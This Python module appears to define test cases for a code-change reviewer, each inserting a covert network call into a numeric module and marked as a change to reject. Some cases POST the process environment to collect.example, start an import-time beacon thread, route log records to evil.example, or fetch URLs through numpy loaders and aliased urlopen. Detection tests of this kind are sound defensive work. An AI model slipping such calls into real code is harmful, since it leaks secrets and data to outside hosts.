"""Network: new destinations, new senders, and calls that fetch URLs without looking like it."""

from __future__ import annotations

from . import Case, append, edit

K = "network"
URL = 'urllib.request.urlopen(f"{ARCHIVE}/{name}", timeout=timeout)'
BODY = "    data = list(values)\n"


def body(code: str) -> str:
    return edit(BODY, BODY + "".join(f"    {line}\n" for line in code.splitlines()))


def imp(module: str, source: str) -> str:
    return edit("import math\n", f"import math\n{module}\n", source)


CASES = [
    Case("post-environ", K, imp("import json", edit(URL, 'urllib.request.urlopen("http://collect.example/x", '
                                                   'data=json.dumps(dict(os.environ)).encode(), timeout=timeout)')),
         False, "the environment POSTed to a new host", "network"),
    Case("archive-constant-swapped", K, edit('ARCHIVE = "http://127.0.0.1:8750"', 'ARCHIVE = "http://mirror.example"'),
         False, "the archive URL changed at module level", "shape"),
    Case("archive-url-in-call", K, edit(URL, 'urllib.request.urlopen(f"http://mirror.example/{name}", timeout=timeout)'),
         False, "the destination of the existing call changed", "network"),
    Case("beacon-thread", K, imp("import threading", append(
        "threading.Thread(target=urllib.request.urlopen, args=('http://beacon.example',)).start()")), False,
         "a beacon thread started at import", "shape"),
    Case("loop-create-connection", K, imp("import asyncio", body(
        "asyncio.new_event_loop().create_connection(None, 'evil.example', 80)")), False,
         "a raw connection from an event loop", "network"),
    Case("http-handler", K, imp("import logging.handlers", body(
        "log.addHandler(logging.handlers.HTTPHandler('evil.example', '/'))")), False,
         "every log record sent to another host", "logging"),
    Case("genfromtxt-url", K, body("rows = np.genfromtxt('http://evil.example/x.csv')"), False,
         "numpy fetches URLs it is given", "network"),
    Case("socket-connection", K, imp("import socket", body("socket.create_connection(('evil.example', 80))")),
         False, "a raw socket", "network"),
    Case("https-connection", K, imp("import http.client", body("http.client.HTTPSConnection('evil.example')")),
         False, "an HTTPS connection", "network"),
    Case("requests-post", K, imp("import requests", body("requests.post('http://evil.example', data=b'')")),
         False, "requests.post", "network"),
    Case("urlopen-new-helper", K, append("def _ping():\n    return urllib.request.urlopen('http://evil.example')"),
         False, "a new helper with its own network call", "network"),
    Case("urlopen-other-function", K, body('urllib.request.urlopen(f"{ARCHIVE}/{values}")'), False,
         "the module already uses urlopen, but not here", "network"),
    Case("urlretrieve", K, body("urllib.request.urlretrieve('http://evil.example/x', 'x')"), False,
         "urlretrieve", "network"),
    Case("smtp", K, imp("import smtplib", body("smtplib.SMTP('mail.example').sendmail('a', 'b', 'c')")), False,
         "mail", "network"),
    Case("ftp", K, imp("import ftplib", body("ftplib.FTP('ftp.example')")), False, "ftp", "network"),
    Case("urlopen-alias", K, edit("from pathlib import Path\n", "from pathlib import Path\n"
                                  "from urllib.request import urlopen as _get\n", body("_get('http://evil.example')")),
         False, "urlopen under another name", "network"),
    Case("loadtxt-url", K, edit("        best = float(", "        np.loadtxt('http://evil.example/t')\n"
                                "        best = float("), False, "loadtxt of a URL", "network"),
    Case("request-object", K, body("req = urllib.request.Request('http://evil.example', method='POST')"), False,
         "a POST request built for later", "network"),
    Case("xmlrpc", K, imp("import xmlrpc.client", body("xmlrpc.client.ServerProxy('http://evil.example')")), False,
         "xmlrpc", "network"),
    Case("open-connection", K, imp("import asyncio", body("asyncio.open_connection('evil.example', 80)")), False,
         "asyncio.open_connection", "network"),
    Case("status-url-swapped", K, edit('f"{ARCHIVE}/status/{name}"', '"http://evil.example/" + name'), False,
         "the status call goes elsewhere", "network"),
    Case("urlopen-with-data", K, edit(URL, 'urllib.request.urlopen(f"{ARCHIVE}/{name}", data=b"x", timeout=timeout)'),
         False, "the same host, now sent data (a POST)", "network"),
]
